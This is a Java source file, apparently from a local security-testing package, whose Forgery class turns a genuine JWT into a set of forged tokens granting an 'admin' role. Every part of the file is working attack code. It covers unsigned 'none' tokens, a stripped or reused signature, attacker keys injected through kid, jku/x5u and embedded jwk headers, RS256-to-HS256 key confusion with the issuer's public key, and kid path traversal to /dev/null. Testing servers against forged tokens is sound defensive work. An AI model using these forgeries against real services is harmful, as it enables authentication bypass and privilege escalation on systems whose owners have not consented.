package live.blytz.local.attack;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Tokens that look like a real one, made by somebody who does not have the key. */
final class Forgery {

    private static final JsonMapper JSON = JsonMapper.shared();
    private static final Base64.Encoder BASE64 = Base64.getUrlEncoder().withoutPadding();
    private static final Base64.Decoder UNBASE64 = Base64.getUrlDecoder();

    private final String header;
    private final String claims;
    private final String signature;
    private final KeyPair own;

    Forgery(String real) throws GeneralSecurityException {
        var parts = real.split("\\.", -1);
        header = parts[0];
        claims = parts[1];
        signature = parts[2];
        var keys = KeyPairGenerator.getInstance("RSA");
        keys.initialize(2048);
        own = keys.generateKeyPair();
    }

    /**
     * @param keys the issuer's public keys, as it publishes them
     * @param trap where a gullible server would fetch our key
     */
    Map<String, String> all(JsonNode keys, String trap) throws GeneralSecurityException {
        var kid = field(header, "kid");
        var forged = new LinkedHashMap<String, String>();
        forged.put("unsigned", head(Map.of("alg", "none")) + "." + claims + ".");
        forged.put(
                "unsigned, oddly spelt",
                head(Map.of("alg", "nOnE", "kid", kid)) + "." + claims + ".");
        forged.put("signature cut off", header + "." + claims + ".");
        forged.put("signature of another token", header + "." + asAdmin() + "." + signature);
        forged.put(
                "our key under their name", signed(Map.of("alg", "RS256", "kid", kid), asAdmin()));
        forged.put(
                "our key from our own server",
                signed(Map.of("alg", "RS256", "kid", "ours", "jku", trap, "x5u", trap), asAdmin()));
        forged.put(
                "our key in the token itself",
                signed(Map.of("alg", "RS256", "kid", "ours", "jwk", ownKey()), asAdmin()));
        var known = publicKey(keys, kid);
        forged.put(
                "their public key as a secret",
                hashed(Map.of("alg", "HS256", "kid", kid), known.getEncoded()));
        forged.put(
                "their public key as a secret, as text",
                hashed(
                        Map.of("alg", "HS256", "kid", kid),
                        pem(known).getBytes(StandardCharsets.UTF_8)));
        forged.put(
                "a key from a file that is empty",
                hashed(Map.of("alg", "HS256", "kid", "../../../../dev/null"), new byte[] {0}));
        forged.put("not a token", "eyJub3QiOiJhIHRva2VuIn0");
        return forged;
    }

    private String asAdmin() {
        var changed = (ObjectNode) JSON.readTree(UNBASE64.decode(claims));
        changed.putObject("realm_access").putArray("roles").add("admin");
        return BASE64.encodeToString(JSON.writeValueAsBytes(changed));
    }

    private String signed(Map<String, ?> head, String body) throws GeneralSecurityException {
        var text = head(head) + "." + body;
        var pen = Signature.getInstance("SHA256withRSA");
        pen.initSign(own.getPrivate());
        pen.update(text.getBytes(StandardCharsets.US_ASCII));
        return text + "." + BASE64.encodeToString(pen.sign());
    }

    private String hashed(Map<String, ?> head, byte[] secret) throws GeneralSecurityException {
        var text = head(head) + "." + asAdmin();
        var mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret, "HmacSHA256"));
        return text
                + "."
                + BASE64.encodeToString(mac.doFinal(text.getBytes(StandardCharsets.US_ASCII)));
    }

    private Map<String, String> ownKey() {
        var key = (RSAPublicKey) own.getPublic();
        return Map.of(
                "kty",
                "RSA",
                "kid",
                "ours",
                "n",
                BASE64.encodeToString(key.getModulus().toByteArray()),
                "e",
                BASE64.encodeToString(key.getPublicExponent().toByteArray()));
    }

    private static RSAPublicKey publicKey(JsonNode keys, String kid)
            throws GeneralSecurityException {
        for (var key : keys.path("keys")) {
            if (key.path("kid").asString().equals(kid)) {
                var spec =
                        new RSAPublicKeySpec(
                                number(key.path("n").asString()), number(key.path("e").asString()));
                return (RSAPublicKey) KeyFactory.getInstance("RSA").generatePublic(spec);
            }
        }
        throw new IllegalStateException("the issuer does not publish " + kid);
    }

    private static BigInteger number(String base64) {
        return new BigInteger(1, UNBASE64.decode(base64));
    }

    private static String pem(RSAPublicKey key) {
        return "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
    }

    private static String head(Map<String, ?> fields) {
        return BASE64.encodeToString(JSON.writeValueAsBytes(fields));
    }

    private static String field(String part, String name) {
        return JSON.readTree(UNBASE64.decode(part)).path(name).asString();
    }
}
